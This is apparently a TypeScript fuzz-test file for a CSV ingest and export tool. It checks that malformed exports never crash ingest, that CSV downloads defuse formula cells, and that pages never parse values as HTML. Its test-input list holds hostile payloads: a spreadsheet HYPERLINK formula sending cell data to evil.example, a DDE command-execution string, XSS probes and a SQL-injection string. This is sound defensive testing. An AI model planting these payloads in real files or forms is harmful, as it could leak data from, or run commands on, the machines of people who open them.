// Hostile input, property by property, with a fixed seed and a bounded number of runs so that
// CI is reproducible: a failure prints the seed and the shrunk counterexample to replay.
import fc from "fast-check";
import { afterAll, describe, expect, it } from "vitest";
import { csvCell, tableCsv } from "../src/components/csv.js";
import { Database } from "../loaders/core/db.js";
import { writeTable } from "../loaders/publish/table-output.js";
import { ingestChanged, VALID_FOLDER } from "./support/fixture-folder.js";
import { PROJECT_DIR } from "./support/project.js";
import { mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

const SEED = 20261122;
const RUNS = Number(process.env.CVA_FUZZ_RUNS ?? 40);
const settings = { seed: SEED, numRuns: RUNS };
const scratch: string[] = [];
afterAll(() => scratch.forEach((d) => rmSync(d, { recursive: true, force: true })));

/** Ingests VALID_FOLDER with `changes`: never an error other than IngestError, and counts reconcile. */
async function ingestSafely(changes: Record<string, string | Buffer | null>) {
  const outcome = await ingestChanged(changes);
  try {
    // Either ingest stopped with problems naming file and rule, or it summarised every file.
    expect(outcome.problems.length > 0 || outcome.files.length > 0).toBe(true);
    for (const problem of outcome.problems) expect(problem.file && problem.rule && problem.message).toBeTruthy();
    for (const f of outcome.files)
      expect(Number(f.rows_read), `${f.file}: read = accepted + rejected`).toBe(
        Number(f.rows_accepted) + Number(f.rows_rejected)
      );
    return { problems: outcome.problems.length, files: outcome.files };
  } finally {
    outcome.dispose();
  }
}

// Text an export might hold, and text an attacker might put there.
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  '"; DROP TABLE orders; --',
  'O\'Brien, "Jr."',
  "line one\nline two",
  "tab\there",
  "ünïcödé ✓ 漢字",
  "\u0000",
  "\uFEFF",
  "",
  " ",
  "\r"
];
const field = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ maxLength: 20 }),
  fc.string({ unit: "grapheme", maxLength: 20 })
);
const quoted = (value: string) => `"${value.replaceAll('"', '""')}"`;

describe("ingest survives hostile exports", () => {
  it("random bytes in place of an export: a clear IngestError or rejects, never a crash", async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 400 }), async (bytes) => {
        await ingestSafely({ "products.csv": Buffer.from(bytes) });
      }),
      settings
    );
  });

  it("an export cut off at any byte: the lines before it are read, the rest rejected or absent, counts reconcile", async () => {
    const orders = Buffer.from(
      String(VALID_FOLDER["orders.csv"]) + 'O3,C1,2024-03-01,"12.5",1,P1,1\nO4,C2,2024-03-02,7,1,P1,1\n'
    );
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 0, max: orders.length }), async (cut) => {
        await ingestSafely({ "orders.csv": orders.subarray(0, cut) });
      }),
      settings
    );
  });

  it("any text in any field (names, segments, comments), quoted as RFC 4180 says: every record read is accepted or rejected, none lost", async () => {
    const header = "customer_id,name,email,phone,segment,region,acquired_at,rewards_member";
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(field, field, field), { minLength: 1, maxLength: 6 }), async (rows) => {
        const lines = rows.map(([name, segment, region], i) =>
          [`C${i + 1}`, name, "", "", segment, region, "", ""].map(quoted).join(",")
        );
        const customers = [header, ...lines].join("\n") + "\n";
        // The same texts as survey comments, where free text is expected.
        const responses =
          [
            String(VALID_FOLDER["responses.csv"]).split("\n")[0],
            ...rows.map(([name, segment, region], i) =>
              [`R${i + 1}`, "2024-Q1", "2024-02-10", "", "", "", "8", "7", "9", "4", `${name} ${segment} ${region}`]
                .map(quoted)
                .join(",")
            )
          ].join("\n") + "\n";
        const { problems, files } = await ingestSafely({
          "customers.csv": customers,
          "responses.csv": responses,
          "ratings.csv": "respondent_id,wave,brand,attribute,score\nR1,2024-Q1,Us,quality,8\n",
          "orders.csv": String(VALID_FOLDER["orders.csv"]).split("\n").slice(0, 2).join("\n") + "\n"
        });
        if (problems) return; // a stop (e.g. a NUL byte the reader refuses) is a clear problem, not a loss
        expect(files.find((f) => f.file === "customers.csv")!.rows_read).toBe(rows.length);
        expect(files.find((f) => f.file === "responses.csv")!.rows_read).toBe(rows.length);
      }),
      settings
    );
  });

  it("a huge field (1 MB of text in a comment) is read whole", async () => {
    const comment = "x".repeat(1 << 20);
    const responses =
      String(VALID_FOLDER["responses.csv"]).trimEnd() +
      `\nR3,2024-Q1,2024-02-12,,Enterprise,North,7,7,7,4,"${comment}"\n`;
    const outcome = await ingestChanged({ "responses.csv": responses });
    try {
      expect(outcome.problems).toEqual([]);
      expect(
        await outcome.db.rows(`SELECT length(comment)::INTEGER AS n FROM responses WHERE respondent_id = 'R3'`)
      ).toEqual([{ n: 1 << 20 }]);
    } finally {
      outcome.dispose();
    }
  });
});

describe("CSV downloads never hand a spreadsheet a formula", () => {
  const dangerous = (cell: string) => /^"?[=+\-@\t\r]/.test(cell);

  it("csvCell / tableCsv (the site's downloads): any text starting with = + - @ tab or CR gets a ' first", () => {
    fc.assert(
      fc.property(fc.array(field, { minLength: 1, maxLength: 5 }), (values) => {
        for (const v of values) expect(dangerous(csvCell(v)), JSON.stringify(v)).toBe(false);
        const csv = tableCsv(
          values.map((v) => ({ v })),
          { columns: ["v"] }
        );
        expect(csv.split("\r\n").length).toBeGreaterThan(values.length);
      }),
      { ...settings, numRuns: RUNS * 10 }
    );
  });

  it("cva table --format csv (DuckDB's writer): the same for rejects holding hostile values", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.constantFrom(...HOSTILE.filter((h) => !h.includes("\u0000"))), { minLength: 1, maxLength: 5 }),
        async (values) => {
          const db = await Database.open();
          const dir = mkdtempSync(join(tmpdir(), "cva-fuzz-csv-"));
          scratch.push(dir);
          try {
            await db.run(
              `CREATE TABLE rejects (file VARCHAR, line BIGINT, "column" VARCHAR, value VARCHAR, rule VARCHAR, message VARCHAR)`
            );
            for (const [i, v] of values.entries())
              await db.run(`INSERT INTO rejects VALUES ('orders.csv', $1, 'amount', $2, 'not-a-number', $3)`, [
                i + 2,
                v,
                `"${v}" is not a number`
              ]);
            const out = join(dir, "rejects.csv");
            await writeTable(db, "rejects", "csv", { out });
            const rows = (
              await db.rows<{ value: string | null }>(
                `SELECT value FROM read_csv('${out}', all_varchar = true, header = true) ORDER BY line::INTEGER`
              )
            ).map((r) => r.value ?? "");
            for (const cell of rows) expect(/^[=+\-@\t\r]/.test(cell), JSON.stringify(cell)).toBe(false);
            expect(readFileSync(out, "utf-8")).not.toMatch(/(^|,)[=+@]/m);
          } finally {
            db.close();
          }
        }
      ),
      { ...settings, numRuns: Math.min(RUNS, 20) }
    );
  });
});

describe("values from exports reach pages as text, never as HTML", () => {
  it("no page or component parses strings as HTML (innerHTML, outerHTML, insertAdjacentHTML, DOMParser, document.write)", () => {
    // Pages interpolate values through Framework's html`` and Inputs.table, which make text
    // nodes; these APIs are the ways around that, so none may appear.
    const files = readdirSync(join(PROJECT_DIR, "src"), { recursive: true, encoding: "utf-8" }).filter(
      (f) => /\.(md|js|ts)$/.test(f) && !f.startsWith(".observablehq")
    );
    expect(files.length).toBeGreaterThan(20);
    const offenders = files.filter((f) =>
      /innerHTML|outerHTML|insertAdjacentHTML|DOMParser|document\.write/.test(
        readFileSync(join(PROJECT_DIR, "src", f), "utf-8")
      )
    );
    expect(offenders).toEqual([]);
  });
});
